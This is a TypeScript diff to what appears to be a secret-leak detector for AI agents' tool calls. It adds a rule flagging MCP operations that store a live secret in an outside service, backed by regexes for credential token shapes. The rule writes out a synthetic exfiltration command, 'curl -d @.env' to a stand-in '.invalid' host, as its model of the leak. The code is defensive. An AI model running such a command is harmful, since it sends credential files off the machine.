@@ -7,6 +7,7 @@
 //  - a URL the call opens (navigate, open, fetch) that carries a secret or a session token.
 import type { Effect } from './types.js';
 import { urlHost, urlSecret } from './url-secret.js';
+import { SECRET_VALUE } from './secret-shapes.js';
 
 interface CommandSource {
   forCommand(command: string): Effect[];
@@ -16,6 +17,10 @@ interface CommandSource {
 const TOKEN_MENTION =
   /\b(?:AKIA[0-9A-Z]{4,}|gh[pousr]_[A-Za-z0-9]{4,}|github_pat_\w{4,}|glpat-[\w-]{4,}|xox[abpr]-[\w-]{4,}|sk-(?:proj-|ant-)?[A-Za-z0-9]{4,}|[sr]k_live_\w{4,})|-----BEGIN [A-Z ]*PRIVATE KEY/;
 const MESSAGE_OP = /send|post|message|comment|issue|mail|publish|gist|reply|chat|tweet|webhook|discussion|review/;
+/** Stores made for secrets (platform env vars, secret managers): putting one there is their use. */
+const SECRET_STORE_OP = /env|secret|variable|credential|vault|key|token|password/;
+/** Verbs that store text in a service (pages, records, notes, documents, rows). */
+const STORE_OP = /create|update|append|insert|add|put|save|write|upload|set/;
 const SEARCH_OP = /search|find|glob|grep|list|locate|walk|tree/;
 /** Names of credential files, as a search pattern names them. */
 const KEY_FILE_NAME =
@@ -66,6 +71,23 @@ export function mcpFlows(op: string, p: Record<string, unknown>, remote: boolean
           out.push({ tool: 'read', path, via: `MCP ${op} attaches ${path}` });
       }
     }
+  // a page, record, note or file created in someone else's service: a live secret in it leaves
+  if (
+    !remote &&
+    STORE_OP.test(op) &&
+    !SECRET_STORE_OP.test(op) &&
+    !strings(p).some(([k]) => /^(?:path|file_?path|filepath|destination|target)$/i.test(k))
+  ) {
+    const hit = strings(p)
+      .map(([, v]) => SECRET_VALUE.exec(v)?.[0])
+      .find((x) => x !== undefined);
+    if (hit)
+      out.push({
+        tool: 'exec',
+        command: `curl -d @.env https://${op.replace(/[^\w-]/g, '') || 'remote'}.invalid/`,
+        via: `MCP ${op} stores a secret (${hit.slice(0, 8)}...) in a service outside this machine`,
+      });
+  }
   if (remote || MESSAGE_OP.test(op)) {
     const hit = strings(p)
       .map(([, v]) => TOKEN_MENTION.exec(v)?.[0])
